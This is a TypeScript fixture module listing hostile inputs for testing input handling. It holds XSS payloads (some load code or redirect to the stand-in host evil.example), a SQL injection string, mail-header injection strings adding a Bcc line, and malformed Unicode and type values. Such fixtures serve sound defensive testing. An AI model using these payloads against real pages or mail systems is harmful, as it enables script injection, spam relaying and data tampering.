/** Texts that would run in a page or a mail that does not take them for words. */
export const programs = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "</script><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=\"alert('1')\">",
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  "<svg><script>alert&lpar;1&rpar;</script>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</a>",
  "<math><mtext></p><img src onerror=alert(1)>",
  "<math href=javascript:alert(1)>x</math>",
  "<iframe src=javascript:alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>click</a>",
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  "[click](javascript:alert(1))",
  '![x](x" onerror="alert(1))',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<body onload=alert(1)>",
  "<style>@import'//evil.example';</style>",
  '<div style="background:url(javascript:alert(1))">',
  "<link rel=stylesheet href=//evil.example>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  "<base href=//evil.example>",
  "<form action=//evil.example><button>x",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "＜script＞alert(1)＜/script＞",
  "{{constructor.constructor('alert(1)')()}}",
  "$" + "{alert(1)}",
  "<%= 7 * 7 %>",
  "';alert(1);//",
  "`;alert(1)//",
  "'; drop table leads; --",
  "{count, plural, one {#} other {x}}",
];

/** Texts that would end a line of a mail's head and begin another. */
export const lineEnds = ["\r\n", "\n", "\r", "\n\r\n", "\u0085", "\u000b"].map(
  (end) => `Ann${end}Bcc: victim@example.com`,
);

/** Texts with what no database keeps. */
export const unkeepable = ["Ann\0Lee", "Ann \ud800 Lee", "Ann Lee\udfff", "\udc00\ud800"];

/** Words that are strange and still words. */
export const strangeWords = [
  "\u202eeeL nnA\u202c and so on",
  "\u2067אבג\u2069 and so on",
  "e\u0301e\u0301 Zoe\u0308 and so on",
  `Z${"\u0300\u0489".repeat(20)}algo and so on`,
  "👩‍👩‍👧‍👦 🦁 🏔️ and so on",
  "𝔄𝔫𝔫 𝔏𝔢𝔢 and so on",
  "安妮 リー и так далее",
  "A\u200b\u200d\ufeffnn and so on",
  "line\u2028and paragraph\u2029end",
  "ﷺ ﷽ \uffff\ufffe and so on",
];

/** Values of every kind but the right one. */
export const otherKinds: unknown[] = [
  7,
  -1,
  1e308,
  true,
  null,
  {},
  [],
  [[]],
  { toString: "x", valueOf: 1, length: -1 },
  "words",
  "9".repeat(400),
  "a".repeat(20_000),
];
